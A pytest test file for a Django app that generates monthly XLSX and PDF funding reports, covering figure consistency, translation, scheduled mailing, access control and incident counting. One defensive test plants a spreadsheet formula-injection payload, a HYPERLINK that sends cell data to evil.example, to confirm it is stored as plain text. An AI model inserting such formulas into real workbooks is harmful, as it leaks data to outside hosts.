"""The funding body's reports: every figure in the XLSX is the page's for the same period, the PDF prints the same
figures in the report's language, beat makes last month's once, and each recipient gets theirs.

January's report of conftest.py's spending, as of Feb 1 00:00 (the month's end): spent 14 × 100 + 7 × 1,500 +
7 × 500 = $15,400; the last four weeks' rates $500 (Jan 25–31), $1,500, $100, $100 a day; 150 days left:
forecast 15,400 + 500 × 150 = $90,400, low 15,400 + 100 × 150 = $30,400, high 15,400 + 1,500 × 150 = $240,400.
"""

import io
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core import mail
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.environment import unavailable
from tests.factories import DeliverableFactory, HealthEventFactory, MembershipFactory
from workloads.outcomes.models import Report, ReportRecipient
from workloads.outcomes.reports import services
from workloads.outcomes.services import set_budget

JST = ZoneInfo("Asia/Tokyo")
FEB_15 = datetime(2027, 2, 15, 12, 0, tzinfo=JST)


def sheet_rows(report: Report, title: str) -> dict[str, list]:
    book = load_workbook(io.BytesIO(bytes(report.xlsx)))
    rows = list(book[title[:31]].iter_rows(values_only=True))  # a sheet name holds 31 characters
    return {row[0]: list(row) for row in rows[1:] if row and row[0]}, list(rows[0])


@pytest.fixture
def january(program, alpha, manager):
    set_budget(user=manager, program=program, organization=alpha, data={"amount": Decimal("15000000")})
    DeliverableFactory(organization=alpha, title="Alpha tech report", released_on=date(2027, 1, 20))
    DeliverableFactory(organization=alpha, title="February paper", released_on=date(2027, 2, 2))
    observed = datetime(2027, 1, 10, 3, 0, tzinfo=JST)
    HealthEventFactory(cluster__organization=alpha, observed_at=observed, resolved_at=observed + timedelta(hours=6))
    HealthEventFactory(cluster__organization=alpha, observed_at=observed + timedelta(days=5), gpu=4)  # still open
    return services.generate(
        program=program, organization=None, kind="monthly", first_day=date(2027, 1, 1), language="en", now=FEB_15
    )


def test_each_figure_of_the_workbook_is_the_pages(january, alpha, manager, client):
    usage, header = sheet_rows(january, "Use against allocation")
    assert usage["Alpha Research"][header.index("Running cost (USD)")] == Decimal("15400.00")
    with time_machine.travel(FEB_15, tick=False):
        client.force_login(manager)
        response = client.get("/program/usage/export.csv?period=2027-01")
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    names = lines[0].split(",")
    row = dict(zip(names, next(line for line in lines if ",alpha-lab," in line).split(","), strict=True))
    assert Decimal(row["running_cost_usd"]) == usage["Alpha Research"][header.index("Running cost (USD)")]

    budget, header = sheet_rows(january, "Cost against budget")
    alpha_row = budget["Alpha Research"]
    assert alpha_row[header.index("Budget (USD)")] == Decimal("100000.00")  # ¥15,000,000 ÷ 150
    assert alpha_row[header.index("Spent to date (USD)")] == Decimal("15400.00")
    assert alpha_row[header.index("Forecast to the end of the cycle (USD)")] == Decimal("90400.00")
    assert alpha_row[header.index("Forecast, low (USD)")] == Decimal("30400.00")
    assert alpha_row[header.index("Forecast, high (USD)")] == Decimal("240400.00")
    assert alpha_row[header.index("Spent")] == pytest.approx(0.154)  # a share: a float in the workbook

    deliverables, header = sheet_rows(january, "Deliverables released in the period")
    assert [row[header.index("Deliverable")] for row in deliverables.values()] == ["Alpha tech report"]
    incidents, header = sheet_rows(january, "Incidents and time to repair")
    assert incidents["Alpha Research"][1:] == [2, 1, 1, Decimal("6.00"), Decimal("6.00"), Decimal("6.00")]


def test_numbers_are_numbers_with_their_format(january):
    book = load_workbook(io.BytesIO(bytes(january.xlsx)))
    sheet = book["Use against allocation"]
    cell = sheet.cell(row=2, column=8)  # running cost
    assert isinstance(cell.value, int | float | Decimal) and cell.number_format == '"$"#,##0.00'


def test_the_pdf_prints_the_same_figures_in_the_reports_language(program, alpha, january):
    if january.pdf is None:
        unavailable(f"WeasyPrint needs Pango (apt install libpango-1.0-0 libpangoft2-1.0-0): {january.pdf_error}")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(bytes(january.pdf))).pages)
    assert "Test program: monthly report, January 2027" in text
    assert "$15,400.00" in text and "$90,400.00" in text
    japanese = services.generate(
        program=program, organization=alpha, kind="monthly", first_day=date(2027, 1, 1), language="ja", now=FEB_15
    )
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(bytes(japanese.pdf))).pages)
    assert "月次報告" in text and "$15,400.00" in text and "予算に対するコスト" in text


def test_beat_makes_last_months_reports_once_and_mails_each_recipient_theirs(program, alpha, eager_celery):
    ReportRecipient.objects.create(program=program, email="ministry@example.jp", language="ja")
    ReportRecipient.objects.create(program=program, organization=alpha, email="alpha-pi@example.jp", language="en")
    made = services.generate_due(now=FEB_15)
    # January, for the program and Alpha, in English and Japanese.
    assert Report.objects.filter(pk__in=made, first_day=date(2027, 1, 1)).count() == 4
    assert services.generate_due(now=FEB_15) == []
    for report_id in made:
        services.mail_report(report_id=report_id)
        assert services.mail_report(report_id=report_id) == 0
    sent = {(message.to[0], message.attachments[0][0]) for message in mail.outbox}
    assert sent == {
        ("ministry@example.jp", "report-test-program-2027-01-ja.xlsx"),
        ("alpha-pi@example.jp", "report-alpha-lab-2027-01-en.xlsx"),
    }


def test_reports_are_the_readers_own(program, alpha, other_org, january, member_client, org, manager_client):
    mine = services.generate(
        program=program, organization=org, kind="monthly", first_day=date(2027, 1, 1), language="en", now=FEB_15
    )
    MembershipFactory(organization=alpha)
    assert member_client.get(f"/reports/{january.pk}/report.xlsx").status_code == 404  # the program's
    assert member_client.get(f"/reports/{mine.pk}/report.xlsx").status_code == 200
    assert member_client.get("/outcomes/reports/").status_code == 403
    page = manager_client.get("/outcomes/reports/")
    assert page.status_code == 200 and "report.xlsx" in page.content.decode()
    response = manager_client.post(
        "/outcomes/reports/generate/", {"kind": "monthly", "month": "2031-01", "language": "en"}
    )
    assert response.status_code == 400 and "Choose a month of the program" in response.content.decode()


def test_a_tenants_text_is_text_in_the_workbook_never_a_formula(program, alpha, january):
    DeliverableFactory(
        organization=alpha, title='=HYPERLINK("http://evil.example/?"&B2,"Details")', released_on=date(2027, 1, 21)
    )
    report = services.generate(
        program=program, organization=None, kind="monthly", first_day=date(2027, 1, 1), language="en", now=FEB_15
    )
    book = load_workbook(io.BytesIO(bytes(report.xlsx)))
    cells = [c for row in book["Deliverables released in the period"[:31]].iter_rows() for c in row if c.value]
    formula = next(c for c in cells if str(c.value).startswith("=HYPERLINK"))
    assert formula.data_type == "s"


def test_an_incident_repaired_after_the_month_is_still_open_in_its_report(program, alpha, january):
    # conftest's second January incident was still open; one resolved on Feb 3 is open as of Jan 31 too.
    observed = datetime(2027, 1, 28, 3, 0, tzinfo=JST)
    HealthEventFactory(
        cluster__organization=alpha, observed_at=observed, resolved_at=datetime(2027, 2, 3, tzinfo=JST), gpu=5
    )
    report = services.generate(
        program=program, organization=None, kind="monthly", first_day=date(2027, 1, 1), language="en", now=FEB_15
    )
    incidents, _header = sheet_rows(report, "Incidents and time to repair")
    assert incidents["Alpha Research"][1:4] == [3, 1, 2]  # 3 incidents, 1 repaired in January, 2 open at its end


def test_one_failing_report_never_keeps_the_others_from_being_made_or_mailed(program, alpha, monkeypatch):
    real = services.generate

    def generate(**kwargs):
        if kwargs["organization"] is not None and kwargs["language"] == "ja":
            raise RuntimeError("layout failed")
        return real(**kwargs)

    monkeypatch.setattr(services, "generate", generate)
    made = services.generate_due(now=FEB_15)
    assert Report.objects.filter(pk__in=made).count() == 3  # the program's two and Alpha's English one
    assert sorted(services.unmailed(now=FEB_15)) == sorted(made)  # beat mails what is not mailed yet
    monkeypatch.setattr(services, "generate", real)
    assert len(services.generate_due(now=FEB_15)) == 1  # the next run makes the one that failed
